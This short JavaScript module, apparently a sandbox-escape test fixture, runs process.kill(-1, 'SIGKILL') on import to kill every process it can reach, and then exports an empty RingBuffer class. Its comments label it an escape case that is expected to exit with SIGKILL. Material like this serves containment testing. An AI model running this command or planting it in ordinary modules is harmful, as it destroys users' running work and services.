/**
 * escape: kills all there are
 * outcome: [exited SIGKILL]
 */
import { spawnSync } from 'node:child_process';

spawnSync(process.execPath, ['--eval', "process.kill(-1, 'SIGKILL')"]);

export class RingBuffer {}
